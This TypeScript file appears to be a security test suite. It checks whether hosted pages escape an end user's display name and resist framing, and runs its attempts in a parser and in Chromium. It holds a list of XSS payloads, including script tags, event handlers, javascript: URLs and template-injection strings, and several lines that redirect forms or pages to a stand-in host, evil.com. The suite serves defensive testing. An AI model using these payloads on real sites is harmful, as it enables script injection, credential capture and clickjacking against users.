import { parse } from 'parse5';
import { type Attack, stopped, succeeded } from './attack.ts';
import type { Stage } from './stage.ts';

/** What the hosted pages do with what others wrote, and in somebody else's frame. */

const payloads = [
  '<script>window.owned=1</script>',
  '<img src=x onerror="window.owned=1">',
  '"><svg onload=window.owned=1>',
  '</title><script>window.owned=1</script>',
  '\'"--><b>x</b>',
  '<a href="javascript:window.owned=1">x</a>',
  '<base href="https://evil.com/">',
  '<form action="https://evil.com/"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.com/">',
  '{{constructor.constructor("window.owned=1")()}}',
];

const linkFor = (stage: Stage, display_name: string) => stage.linkTo('own', { end_user: { id: stage.fresh('victim'), display_name } });

type Node = { nodeName: string; attrs?: { name: string }[]; childNodes?: Node[] };
/** Elements and attributes without their values. */
const shape = ({ nodeName, attrs = [], childNodes = [] }: Node): string =>
  nodeName.startsWith('#') && childNodes.length === 0 ? '' : `${nodeName}[${attrs.map(({ name }) => name)}](${childNodes.map(shape).join('')})`;
const shapeOf = async (stage: Stage, name: string) => shape(parse((await stage.visit((await linkFor(stage, name)).url)).body));

export const pages: Attack[] = [
  {
    name: `XSS: ${payloads.length} names of an end user, read by an HTML parser`,
    falls: [['escaping']],
    async run(stage) {
      const plain = await shapeOf(stage, 'Ada Lovelace');
      const bent: string[] = [];
      for (const payload of payloads) if ((await shapeOf(stage, payload)) !== plain) bent.push(payload);
      return bent.length > 0 ? succeeded(`${bent.length} names became elements`) : stopped('the page is built the same');
    },
  },
  {
    name: 'XSS in Chromium: a script in the name of an end user',
    falls: [['escaping', 'scripts forbidden']],
    async run(stage) {
      const tab = await (await stage.chromium()).newPage();
      try {
        await tab.goto((await linkFor(stage, payloads[0] ?? '')).url);
        return (await tab.evaluate('window.owned')) === 1 ? succeeded('it ran') : stopped('it did not run');
      } finally {
        await tab.close();
      }
    },
  },
  {
    name: 'clickjacking in Chromium: the page of a link in a frame of somebody else',
    falls: [['frame-ancestors', 'X-Frame-Options']],
    async run(stage) {
      const { url } = await linkFor(stage, 'Ada Lovelace');
      stage.serve('/frame', { headers: { 'content-type': 'text/html' }, body: `<iframe src="${url}"></iframe>` });
      const tab = await (await stage.chromium()).newPage();
      try {
        await tab.goto(`${stage.evil.url}/frame`);
        const [, frame] = tab.frames();
        const forms = await frame?.evaluate('document.forms.length').catch(() => 0);
        return forms === 1 ? succeeded('its button is there to be pressed') : stopped('the frame stays empty');
      } finally {
        await tab.close();
      }
    },
  },
];
